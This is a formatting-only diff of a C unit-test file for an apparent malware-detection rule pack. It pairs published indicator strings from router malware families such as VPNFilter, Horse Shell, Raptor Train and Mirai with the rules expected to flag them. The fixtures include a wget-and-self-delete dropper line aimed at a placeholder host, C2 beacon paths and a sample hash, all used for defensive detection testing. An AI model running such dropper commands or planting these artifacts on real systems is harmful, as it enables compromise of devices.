@@ -4,7 +4,7 @@
 
 #include "rules.h"
 
-static gh_ctx    ctx;
+static gh_ctx ctx;
 static gh_rules *pack;
 
 static int set_up(void **state)
@@ -36,25 +36,34 @@ static void the_pack_holds_rules_and_hashes(void **state)
 }
 
 /* Inert text with published strings, as the laboratory plants it, and what must not be enough. */
-static const struct row { const char *label, *text, *rule, *family; } rows[] = {
-	{ "horse shell", "recv NET_REQ_HORSE_SHELL REQ_CONNECT_PORT wzsw_encrypt_buf", "HorseShell_implant", "Horse Shell" },
-	{ "horse shell, envelope", "process_http_read_events body:%d-%s POST http://%s/index.php HTTP/1.1", "HorseShell_implant", "Horse Shell" },
+static const struct row {
+	const char *label, *text, *rule, *family;
+} rows[] = {
+	{ "horse shell", "recv NET_REQ_HORSE_SHELL REQ_CONNECT_PORT wzsw_encrypt_buf", "HorseShell_implant",
+	  "Horse Shell" },
+	{ "horse shell, envelope", "process_http_read_events body:%d-%s POST http://%s/index.php HTTP/1.1",
+	  "HorseShell_implant", "Horse Shell" },
 	{ "one string of it", "wzsw_encrypt_buf", NULL, "" },
-	{ "sheel", "./sheel -h server_ip -p server_port -i update_index[0-4] [-r] update server list success!", "HorseShell_sheel", "Horse Shell" },
+	{ "sheel", "./sheel -h server_ip -p server_port -i update_index[0-4] [-r] update server list success!",
+	  "HorseShell_sheel", "Horse Shell" },
 	{ "sheel's getopt alone", "ri:h:p: open fail.%m", NULL, "" },
 	{ "vpnfilter", "Execute by shell[%d]: CONFIG.TOR.name:", "VPNFilter_stage2", "VPNFilter" },
 	{ "vpnfilter sniffer", "%s/rep_%u.bin %s:%uh->%s:%hu", "VPNFilter_sniffer", "VPNFilter" },
 	{ "vpnfilter paths", "/var/run/vpnfilterw /var/run/vpnfilterm", "VPNFilter_paths", "VPNFilter" },
 	{ "cyclops blink", "%s/214688dsf46", "CyclopsBlink_core", "Cyclops Blink" },
-	{ "cyclops blink update", "etaonrishdlcupfm /pending/WGUpgrade-dl.new", "CyclopsBlink_update", "Cyclops Blink" },
+	{ "cyclops blink update", "etaonrishdlcupfm /pending/WGUpgrade-dl.new", "CyclopsBlink_update",
+	  "Cyclops Blink" },
 	{ "a firewall's own rules", "iptables -I %s -p tcp --dport %d -j ACCEPT &>/dev/null [kworker/0:1]", NULL, "" },
-	{ "zuorat", "/dns.php?o_addr=%s&ip_addr=%s&dns=%s /arp.php?o_addr=%s&int_ip=%s&int_mac=%s", "ZuoRAT_beacon", "ZuoRAT" },
+	{ "zuorat", "/dns.php?o_addr=%s&ip_addr=%s&dns=%s /arp.php?o_addr=%s&int_ip=%s&int_mac=%s", "ZuoRAT_beacon",
+	  "ZuoRAT" },
 	{ "hiatusrat", "/master/Api/active /master/Api/reply", "HiatusRAT_agent", "HiatusRAT" },
 	{ "kv-botnet", "/tmp/bioset http_watchdog mips_ff", "KVbotnet_loader", "KV-botnet" },
 	{ "themoon", ".nttpd.pid ./.nttpd ./.sox20", "TheMoon_files", "TheMoon" },
 	{ "avrecon", "X-Proto-Storage X-Proto-Jid", "AVrecon_agent", "AVrecon" },
-	{ "raptor train", "bgateway biface barch huuid buuid \xdc\xfe\xba\xdc", "RaptorTrain_nosedive", "Raptor Train" },
-	{ "raptor train dropper", "wget http://x/RERERERERERERERERERERERERERERERERERE; rm -rf $0", "RaptorTrain_dropper", "Raptor Train" },
+	{ "raptor train", "bgateway biface barch huuid buuid \xdc\xfe\xba\xdc", "RaptorTrain_nosedive",
+	  "Raptor Train" },
+	{ "raptor train dropper", "wget http://x/RERERERERERERERERERERERERERERERERERE; rm -rf $0",
+	  "RaptorTrain_dropper", "Raptor Train" },
 	{ "raptor train domain", "zdacasdc.w8510.com", "RaptorTrain_domains", "Raptor Train" },
 	{ "j-magic", "[nfsiod 0] [nfsiod 1]", "Jmagic_agent", "J-magic" },
 	{ "unc3886 irad", "icmp[4:2] == 0xaa56", "UNC3886_irad", "UNC3886 TINYSHELL" },
@@ -68,7 +77,9 @@ static const struct row { const char *label, *text, *rule, *family; } rows[] = {
 	{ "a time zone file", "/tmp/.timezone", NULL, "" },
 	{ "chalubo", "/usr/bin/usb2rci /usr/bin/bf2rdisc", "Chalubo_loader", "Chalubo" },
 	{ "httpsd", "/etc/cron.d/httpsd /bin/.httpsd", "Httpsd_bot", "httpsd" },
-	{ "mirai table", "LCOGQGPTGP \x0d\x46\x47\x54\x0d\x55\x43\x56\x41\x4a\x46\x4d\x45 \x4c\x41\x4d\x50\x50\x47\x41\x56", "Mirai_table", "Mirai" },
+	{ "mirai table",
+	  "LCOGQGPTGP \x0d\x46\x47\x54\x0d\x55\x43\x56\x41\x4a\x46\x4d\x45 \x4c\x41\x4d\x50\x50\x47\x41\x56",
+	  "Mirai_table", "Mirai" },
 	{ "busybox", "/dev/watchdog /bin/busybox applet not found /proc/net/tcp", NULL, "" },
 };
 
@@ -107,8 +118,8 @@ static void the_hash_of_horse_shell_is_known(void **state)
 {
 	(void)state;
 	static const uint8_t udhcp[32] = { 0x99, 0x87, 0x88, 0x47, 0x2c, 0xb1, 0x50, 0x2c, 0x03, 0x67, 0x5a,
-	                                   0x15, 0xa9, 0xf0, 0x9b, 0x12, 0xf3, 0x87, 0x7a, 0x5a, 0xeb, 0x68,
-	                                   0x7f, 0x89, 0x14, 0x58, 0xa4, 0x14, 0xb8, 0xe0, 0xd6, 0x6c };
+					   0x15, 0xa9, 0xf0, 0x9b, 0x12, 0xf3, 0x87, 0x7a, 0x5a, 0xeb, 0x68,
+					   0x7f, 0x89, 0x14, 0x58, 0xa4, 0x14, 0xb8, 0xe0, 0xd6, 0x6c };
 	seen s = { .count = 0 };
 	EQ(gh_rules_hash(&ctx, pack, udhcp, see, &s), GH_OK, "udhcp");
 	EQ(s.count, 1, "udhcp");
